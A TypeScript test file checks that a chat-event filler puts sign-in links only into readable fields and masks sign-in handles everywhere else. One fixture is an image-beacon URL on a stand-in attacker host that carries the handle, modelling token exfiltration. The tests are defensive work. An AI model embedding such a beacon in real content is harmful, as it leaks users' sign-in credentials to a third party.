import { expect, test } from 'vitest';
import { signInHandle } from '../delegation/handles.ts';
import type { Json } from '../world/json.ts';
import { fillEvent } from './fill-event.ts';

const attempt = `att_${'a'.repeat(25)}`;
const handle = signInHandle(attempt);
const link = 'https://desk.example/sign-in/x';
const beacon = `https://evil.example/a.png?u=${handle}`;
const dotted = 'https://evil.example/a.png?u=•••';
const filled = (event: { [key: string]: Json }) => fillEvent(event, () => link);
const tap = (...actions: Json[]) => ({ type: 'button', title: 'T', click: { actions } });

test('a link is filled in where people read it, and as the whole of what a tap opens', () => {
  const event = (url: string): { [key: string]: Json } => ({
    from: 'bot',
    text: `Login: ${url}`,
    url,
    buttons: [{ label: `Go ${url}`, type: 'link', url }],
    quick_replies: [{ title: url, payload: 'go', click: { actions: [{ type: 'link', uri: url }] } }],
    content: {
      type: 'vertical',
      elements: [
        { type: 'text', text: url, tooltip: url },
        { type: 'keyValuePairList', elements: [{ key: 'Login', value: url }] },
        { type: 'horizontal', elements: [tap({ type: 'link', uri: url, ios: { uri: url }, web: { uri: url } })] },
      ],
    },
  });
  expect(filled(event(handle))).toEqual(event(link));
});

test('inside of another address there is only a mask', () => {
  const event = (url: string): { [key: string]: Json } => ({
    text: `See ${url}`,
    url,
    buttons: [{ label: 'Go', type: 'link', url }],
    quick_replies: [{ title: 'A', payload: 'a', image: url }],
    content: {
      type: 'vertical',
      elements: [{ type: 'image', url, caption: url }, tap({ type: 'link', uri: url, android: { uri: url } })],
    },
  });
  expect(filled(event(beacon))).toEqual(event(dotted));
});

test('what is sent, kept or fetched by itself never holds a link, wherever it stands', () => {
  const event = (said: string): { [key: string]: Json } => ({
    buttons: [{ label: 'Go', type: 'postback', payload: said }],
    quick_replies: [
      {
        title: 'A',
        payload: said,
        image: said,
        style: { color: said },
        click: { actions: [{ type: 'publishText', text: said }], metadata: [{ id: said }] },
      },
    ],
    metadata: [{ text: said }],
    skill: said,
    [said]: { text: said },
    content: {
      type: 'vertical',
      metadata: [{ url: said, [said]: 1 }],
      elements: [
        { type: 'image', url: said },
        { type: 'linkPreview', url: said },
        { type: 'map', la: said, lo: 1 },
        { type: 'template', title: 'T', resp: [said] },
        {
          ...tap({ type: 'publishText', text: said }, { type: 'custom', data: [{ key: said, value: said }] }),
          tag: said,
        },
        { type: 'checkbox', text: 'C', click: { actions: [{ type: 'checked', publishText: said, uri: said }] } },
      ],
    },
  });
  expect(filled(event(handle))).toEqual(event('•••'));
});
